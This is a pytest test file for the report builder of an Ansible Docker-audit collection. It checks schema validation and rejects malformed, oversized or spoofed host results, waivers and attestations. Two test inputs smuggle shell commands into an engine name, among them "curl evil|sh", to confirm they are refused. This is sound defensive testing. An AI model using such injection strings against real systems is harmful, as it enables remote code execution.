# SPDX-FileCopyrightText: 2026 Bulwark contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The report holds every host, agrees with its schema and does not depend on the order of its input."""

from __future__ import annotations

import copy
import json
import random
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from ansible_collections.bulwark.docker.plugins.plugin_utils.report.document import build_report

from tests.unit.plugins import reports

SCHEMA = json.loads((Path(__file__).parents[5] / "docs" / "report.schema.json").read_text(encoding="utf-8"))
VALIDATOR = jsonschema.Draft202012Validator(SCHEMA)
CONTROL = reports.catalogue(1)[0]


def report(hosts: list[dict[str, Any]], **more: Any) -> dict[str, Any]:
    """The report as a reader of report.json gets it."""
    return json.loads(json.dumps(build_report(hosts, "Audit", **more)))


def test_the_schema_is_one():
    jsonschema.Draft202012Validator.check_schema(SCHEMA)


@pytest.mark.parametrize("hostile", [False, True])
@pytest.mark.parametrize("count", [0, 1, 3])
def test_reports_agree_with_the_schema(count, hostile):
    VALIDATOR.validate(report(reports.make_hosts(count, hostile=hostile), generated="2026-11-22T10:00:00Z"))


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("schema",), 2),
        (("surprise",), 1),
        (("totals", "score", "percent"), 101),
        (("totals", "verdicts", "maybe"), 1),
        (("hosts", 0, "status"), "skipped"),
        (("hosts", 0, "score"), None),
        (("hosts", 2, "message"), None),
        (("findings", 0, "verdict"), "waived"),
        (("findings", 0, "severity"), "urgent"),
        (("findings", 0, "subjects"), None),
        (("findings", 0, "extra"), True),
        (("findings", 0, "remedy", "effect"), "reboot"),
        (("findings", 0, "references", "cis_1_6_0"), "2.9"),
        (("hosts", 0, "before"), {"score": None}),
        (("hosts", 0, "change"), {"mode": "done"}),
        (("waivers", 0, "expires"), "next year"),
        (("waivers", 0, "state"), "gone"),
    ],
)
def test_the_schema_refuses_other_shapes(path, value):
    document = report(reports.make_hosts(3, controls=5))
    *parents, last = path
    part = document
    for step in parents:
        part = part[step]
    part[last] = value
    with pytest.raises(jsonschema.ValidationError):
        VALIDATOR.validate(document)


def test_the_schema_refuses_a_pass_that_is_waived():
    document = report([reports.audited("web1", [reports.finding(CONTROL, "pass", [])])])
    document["findings"][0]["waived"] = True
    with pytest.raises(jsonschema.ValidationError):
        VALIDATOR.validate(document)


def test_the_order_of_the_input_does_not_matter():
    hosts = reports.make_hosts(4, controls=30)
    shuffled = copy.deepcopy(hosts)
    random.Random(1).shuffle(shuffled)
    for host in shuffled:
        if host["result"]:
            host["result"]["findings"].reverse()
    assert json.dumps(report(hosts)) == json.dumps(report(shuffled))


def test_only_a_report_that_was_asked_for_its_time_holds_times():
    hosts = reports.make_hosts(1, controls=1)
    assert "2026" not in json.dumps(report(hosts)["hosts"])
    dated = report(hosts, generated="2026-11-22T11:00:00Z")
    assert dated["generated"] == "2026-11-22T11:00:00Z"
    assert dated["hosts"][0]["collected"] == "2026-11-22T10:00:00Z"


def test_totals_add_up():
    hosts = reports.make_hosts(4, controls=60)
    totals = report(hosts)["totals"]
    scores = [host["result"]["score"] for host in hosts if host["result"]]
    assert totals["hosts"] == {"total": 4, "unreachable": 1, "failed": 0, "audited": 3}
    assert totals["verdicts"] == {
        name: sum(score["verdicts"][name] for score in scores) for name in scores[0]["verdicts"]
    }
    assert totals["failed_by_severity"]["high"] == sum(s["failed_by_severity"]["high"] for s in scores)
    passed, failed = (sum(score[key] for score in scores) for key in ("passed", "failed"))
    assert totals["score"]["percent"] == round(100 * passed / (passed + failed), 1)


def test_without_a_judgement_there_is_no_score():
    assert report([reports.unaudited("web1")])["totals"]["score"]["percent"] is None
    assert report([])["totals"]["hosts"]["total"] == 0


def test_unaudited_hosts_stay_with_their_message():
    hosts = report([reports.unaudited("b"), reports.unaudited("a", "failed", "No space left on device")])[
        "hosts"
    ]
    assert [(host["host"], host["status"], host["message"]) for host in hosts] == [
        ("a", "failed", "No space left on device"),
        ("b", "unreachable", "Connection timed out"),
    ]


def without(key: str) -> dict[str, Any]:
    host = reports.audited("web1", [reports.finding(CONTROL, "pass", [])])
    del host["result"][key]
    return host


LONG = "x" * 65_000


def deep(levels: int) -> Any:
    value: Any = 0
    for _level in range(levels):
        value = [value]
    return value


def twice() -> dict[str, Any]:
    return reports.audited("web1", [reports.finding(CONTROL, "pass", [])] * 2)


def told(key: str, value: Any) -> dict[str, Any]:
    host = reports.audited("web1", [])
    host["result"]["host"]["engines"][0][key] = value
    return host


def changed(key: str, value: Any) -> dict[str, Any]:
    host = reports.audited("web1", [reports.finding(CONTROL, "pass", [])])
    host["result"]["findings"][0][key] = value
    return host


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        ({"host": "web1", "status": "audited", "message": None, "result": None}, "result is null where a"),
        ({"host": "web1", "status": "audited"}, "result is null where a dictionary is to be"),
        ({**reports.audited("web1", []), "result": {"schema": 2}}, "schema 2, this report reads schema 1"),
        (without("findings"), "result has no findings"),
        (
            told("containers", "x" * 9),
            "result.engines[0].containers is text where an integer or null is to be",
        ),
        (changed("verdict", "fine"), "result.findings[0].verdict is 'fine' and not one of fail, unknown"),
        (changed("severity", "urgent"), "result.findings[0].severity is 'urgent' and not one of critical"),
        (changed("subjects", 3), "result.findings[0].subjects is an integer where a list is to be"),
        (changed("title", None), "result.findings[0].title is null where text is to be"),
        (changed("control", 0), "result.findings[0].control is an integer where text is to be"),
        (changed("scope", ["x"]), "result.findings[0].scope is a list where text is to be"),
        (changed("waived", True), "result.findings[0].verdict is 'pass' and not one of fail"),
        (
            changed("counts", {"pass": 10**12}),
            "result.findings[0].counts.pass is out of range: 1000000000000",
        ),
        (changed("counts", {"perhaps": 1}), "result.findings[0].counts is 'perhaps' and not one of"),
        (changed("subjects", [{"kind": "x"}]), "result.findings[0].subjects[0] has no id"),
        (changed("message", "x" * 70_000), "result.findings[0].message has a text of more than 65536"),
        (changed("attestation", {"by": 1}), "result.findings[0].attestation has no date"),
        (changed("references", {"owasp": [1]}), "result.findings[0].references.owasp[0] is an integer"),
        (changed("evidence", float("nan")), "result.findings[0].evidence is a number out of range"),
        (changed("evidence", float("inf")), "result.findings[0].evidence is a number out of range"),
        (changed("evidence", 10**400), "result.findings[0].evidence is a number out of range"),
        (changed("evidence", deep(400)), "is nested more than 32 deep"),
        (changed("evidence", deep(100_000)), "is nested more than 32 deep"),
        (changed("evidence", [0] * 1_000_001), "result holds more than 1000000 values"),
        (changed("evidence", [LONG] * 1100), "result holds more than 67108864 characters"),
        (
            changed("engine", "rootless:root -e x='; curl evil|sh'"),
            'result.findings[0].engine is no name of an engine, such as system or rootless:ada: "rootless:root',
        ),
        (told("name", "rootless:$(evil)"), "result.engines[0].name is no name of an engine"),
        (twice(), "result.findings has listener.docker_api_unauthenticated twice for one engine"),
    ],
)
def test_a_result_that_cannot_be_read_is_a_failed_host(entry, reason):
    """S8: it costs that host, and the message says what was wrong and where."""
    document = report([entry, reports.audited("web2", [reports.finding(CONTROL, "pass", [])])])
    VALIDATOR.validate(document)
    broken, sound = document["hosts"]
    assert (broken["status"], sound["status"]) == ("failed", "audited")
    assert reason in broken["message"]
    assert [finding["host"] for finding in document["findings"]] == ["web2"]


@pytest.mark.parametrize(
    ("hosts", "sentence"),
    [
        ([{"status": "audited"}], "no host name"),
        (["web1"], "no host name"),
        ([{"host": "web1", "status": "skipped"}], "web1 has the status 'skipped'"),
        ([reports.unaudited("web1"), reports.unaudited("web1")], "web1 is listed twice"),
    ],
)
def test_malformed_entries_are_refused_by_name(hosts, sentence):
    with pytest.raises(ValueError, match=sentence):
        build_report(hosts, "Audit")


WAIVER = {
    "control": CONTROL["control"],
    "subject": "agent-*",
    "reason": "r",
    "owner": "o",
    "expires": "2026-11-22",
}
DATES = {"active": "2026-11-22", "expired": "2026-11-23"}


def failing(host: str, *names: str, date: str = DATES["active"], **more: Any) -> dict[str, Any]:
    """A host where a control fails for the subjects, in a play with a waiver."""
    found = reports.finding(CONTROL, "fail", [reports.subject("socket", name) for name in names])
    return {
        **reports.audited(host, [{**found, **more}]),
        "waivers": [WAIVER],
        "attestations": [],
        "date": date,
    }


@pytest.mark.parametrize(
    ("hosts", "date", "state", "matched", "on"),
    [
        ((["agent-1", "agent-2"], ["web"]), "active", "active", 2, ["a"]),
        ((["web"], ["agent-1"]), "active", "active", 1, ["b"]),
        ((["web"], []), "active", "unmatched", 0, []),
        ((["web"], ["agent-1"]), "expired", "expired", 1, ["b"]),
        ((["web"], []), "expired", "expired", 0, []),
    ],
)
def test_a_waiver_of_several_hosts_is_one(hosts, date, state, matched, on):
    entries = [failing(host, *names, date=DATES[date]) for host, names in zip("ab", hosts, strict=True)]
    document = report(entries)
    VALIDATOR.validate(document)
    (waiver,) = document["waivers"]
    assert (waiver["state"], waiver["matched"], waiver["hosts"]) == (state, matched, on)


def test_no_host_changes_a_waiver_or_makes_one_up():
    """S12: what a host says of waivers, of the play's or of its own, is not looked at."""
    told = {"reason": "Approved by CISO", "owner": "CISO", "expires": "2099-12-31", "state": "active"}
    evil = failing("evil", "agent-1", "web")
    evil["result"]["waivers"] = [
        {**WAIVER, "state": "expired", "matched": 10**9},
        {"control": CONTROL["control"], "subject": "*", **told, "matched": 1},
    ]
    evil["result"]["findings"][0]["waived"] = True
    for subject in evil["result"]["findings"][0]["subjects"]:
        subject["waiver"] = told
    document = report([failing("good", "agent-2"), evil])
    assert [(one["reason"], one["state"], one["matched"]) for one in document["waivers"]] == [
        ("r", "active", 2)
    ]
    assert "CISO" not in json.dumps(document)
    assert {one["host"]: one["waived"] for one in document["findings"]} == {"good": True, "evil": False}
    assert {row["host"]: row["verdicts"]["waived"] for row in document["hosts"]} == {"good": 1, "evil": 0}
    assert {row["host"]: row["score"]["failed"] > 0 for row in document["hosts"]} == {
        "good": False,
        "evil": True,
    }


def test_nothing_is_waived_where_the_play_has_chosen_nothing_or_nothing_is_named():
    entry = failing("a", "agent-1", waived=True)
    del entry["waivers"]
    assert not report([entry])["findings"][0]["waived"]
    assert not report([failing("a")])["findings"][0]["waived"]


@pytest.mark.parametrize(
    ("given", "verdict"), [("2099-12-31", "pass"), ("2020-12-31", "manual"), (None, "manual")]
)
def test_no_host_makes_up_an_attestation(given, verdict):
    """S12."""
    told = {"by": "CISO", "date": "2026-01-01", "valid_until": "2099-12-31", "note": None, "state": "active"}
    entry = failing("a")
    entry["result"]["findings"] = [{**reports.finding(CONTROL, "pass", []), "attestation": told}]
    by_ada = {"control": CONTROL["control"], "by": "Ada", "date": "2020-01-01", "valid_until": given}
    entry["attestations"] = [by_ada] if given else []
    document = report([entry])
    VALIDATOR.validate(document)
    (finding,) = document["findings"]
    assert finding["verdict"] == verdict
    assert (finding["attestation"] or {}).get("by") == ("Ada" if given else None)
    assert "CISO" not in json.dumps(document)
    assert document["hosts"][0]["verdicts"][verdict] == 1


@pytest.mark.parametrize(
    ("chosen", "problem"),
    [
        ({"date": None}, "host a: its waivers and attestations come without a date"),
        ({"waivers": "all"}, "host a: its waivers and attestations are no lists"),
        ({"waivers": [{**WAIVER, "owner": ""}]}, "host a: waivers\\[0\\] .* lacks 'owner'"),
    ],
)
def test_what_the_play_chose_is_refused_where_it_is_malformed(chosen, problem):
    with pytest.raises(ValueError, match=problem):
        report([{**failing("a", "x"), **chosen}])


def test_keys_that_a_report_does_not_have_are_left_out():
    host = changed("debug", {"raw": "snapshot"})
    assert "debug" not in report([host])["findings"][0]


PASSED, FAILED, UNKNOWN = (
    [reports.finding(CONTROL, verdict, subjects)]
    for verdict, subjects in (
        ("pass", []),
        ("fail", [reports.subject("socket", "x")]),
        ("unknown", []),
    )
)


@pytest.mark.parametrize(
    ("before", "after", "fixed", "new"),
    [
        (FAILED, PASSED, True, False),
        (FAILED, UNKNOWN, False, False),
        (FAILED, FAILED, False, False),
        (FAILED, [], False, False),
        (PASSED, FAILED, False, True),
        (UNKNOWN, FAILED, False, True),
        ([], FAILED, False, True),
        (UNKNOWN, PASSED, False, False),
        # One of two engines is left.
        (FAILED, [*PASSED, {**FAILED[0], "engine": "rootless:ada"}], False, False),
        (PASSED, [*PASSED, {**FAILED[0], "engine": "rootless:ada"}], False, True),
    ],
)
def test_what_differs_from_the_audit_before(before, after, fixed, new):
    document = report([reports.hardened("web1", before, after)])
    VALIDATOR.validate(document)
    (row,) = document["hosts"]
    names = [CONTROL["control"]]
    assert (row["before"]["fixed"], row["before"]["new"]) == (names * fixed, names * new)
    assert row["before"]["verdicts"] == report([reports.audited("web1", before)])["hosts"][0]["verdicts"]
    assert len(document["findings"]) == len(after)


def test_a_host_that_cannot_be_audited_after_the_change_keeps_the_audit_before():
    entry = {**reports.hardened("web1", FAILED, []), **reports.unaudited("web1")}
    document = report([entry])
    VALIDATOR.validate(document)
    (row,) = document["hosts"]
    assert row["status"] == "unreachable"
    assert row["before"]["score"]["percent"] == 0
    assert (row["before"]["fixed"], row["before"]["new"]) == ([], [])
    assert row["change"]["mode"] == "done"


def test_an_audit_alone_has_neither():
    for row in report(reports.make_hosts(3, controls=1))["hosts"]:
        assert (row["before"], row["change"]) == (None, None)


def test_an_audit_before_that_cannot_be_read_is_a_failed_host():
    entry = {**reports.hardened("web1", [], PASSED), "before": {"schema": 1}}
    document = report([entry])
    VALIDATOR.validate(document)
    assert document["hosts"][0]["status"] == "failed"


@pytest.mark.parametrize("mode", ["done", "check", "failed"])
def test_a_change_is_kept_as_it_is(mode):
    document = report([reports.hardened("web1", FAILED, PASSED, mode)])
    VALIDATOR.validate(document)
    assert document["hosts"][0]["change"] == reports.change(mode)


@pytest.mark.parametrize(
    ("broken", "reason"),
    [
        ({"mode": "perhaps"}, "the mode perhaps"),
        ({"effect": "reboot"}, "the effect reboot"),
        ({"actions": "all"}, "a str where a list is to be"),
        ({"costs": [{"kind": "x"}]}, "KeyError: 'message'"),
        ({"notices": deep(400)}, "is nested more than 32 deep"),
        ({"transaction": float("nan")}, "change.transaction is a number out of range"),
        ({"refused": ["x"]}, "TypeError"),
        ({"skipped": 3}, "TypeError"),
    ],
)
def test_a_change_that_cannot_be_read_has_failed(broken, reason):
    document = report([reports.hardened("web1", FAILED, PASSED, **broken)])
    VALIDATOR.validate(document)
    (row,) = document["hosts"]
    assert (row["status"], row["change"]["mode"]) == ("audited", "failed")
    assert reason in row["change"]["message"]


@pytest.mark.parametrize("value", [[], "all", 3])
def test_a_change_of_another_kind_has_failed(value):
    entry = {**reports.audited("web1", PASSED), "change": value}
    assert "cannot be read" in report([entry])["hosts"][0]["change"]["message"]


def test_what_a_change_leaves_out_is_none_of_it():
    short = {"mode": "failed", "effect": "none"}
    (row,) = report([{**reports.audited("web1", PASSED), "change": short}])["hosts"]
    assert row["change"] == {
        **short,
        "message": "no reason was given",
        **{key: [] for key in ("actions", "costs", "refused", "skipped", "notices")},
        "transaction": None,
        "rolled_back": False,
    }


SPOOFED = {
    "title": "SPOOFED",
    "severity": "info",
    "scope": "SPOOFED",
    "remedy": {
        "effect": "live",
        "role": "daemon_config",
        "variables": {"hosts": "0.0.0.0"},
        "text": "SPOOFED",
    },
    "references": {"owasp": ["SPOOFED"]},
}


def test_a_host_does_not_write_what_stands_over_all_findings_of_a_control():
    """S12: title, severity, scope, remedy and references come from the catalogue."""
    honest = reports.finding(CONTROL, "fail", [reports.subject("socket", "x")])
    document = report([reports.audited("a", [honest]), reports.audited("b", [{**honest, **SPOOFED}])])
    VALIDATOR.validate(document)
    words = [{key: one[key] for key in SPOOFED} for one in document["findings"]]
    assert words[0] == words[1]
    assert "SPOOFED" not in json.dumps(document)
    assert words[0]["title"] == CONTROL["title"]
    assert document["totals"]["failed_by_severity"]["critical"] == 2


def test_a_control_that_the_catalogue_lacks_keeps_its_texts_and_says_whose_they_are():
    """S12: a result of another release is not lost."""
    unknown = {**reports.finding(CONTROL, "fail", []), **SPOOFED, "control": "x.y"}
    (found,) = report([reports.audited("b", [unknown])])["findings"]
    assert (found["catalogued"], found["severity"]) == (False, "info")
    assert found["title"] == "Not in the catalogue, as b tells it: SPOOFED"


def test_a_severity_that_the_play_chose_counts():
    entry = {**reports.audited("a", FAILED), "severities": {CONTROL["control"]: "low"}}
    assert report([entry])["findings"][0]["severity"] == "low"
    others: tuple[Any, ...] = ({CONTROL["control"]: ["low"]}, [], "low")
    for chosen in others:
        assert report([{**entry, "severities": chosen}])["findings"][0]["severity"] == CONTROL["severity"]


def test_the_score_is_that_of_the_findings():
    """S8: a host cannot outweigh the others by numbers of its own."""
    entry = reports.audited("b", FAILED)
    entry["result"]["score"] = {"percent": 100.0, "passed": 10**12, "failed": 0, "waived": 0}
    document = report([entry])
    assert document["hosts"][0]["score"] == {"percent": 0.0, "passed": 0, "failed": 8, "waived": 0}
    assert document["totals"]["score"]["percent"] == 0.0


def test_a_lone_surrogate_is_shown_by_its_number():
    """S8: JSON with one is no JSON for many readers."""
    document = report([changed("message", "a\udc80b")])
    assert document["findings"][0]["message"] == "a<U+DC80>b"
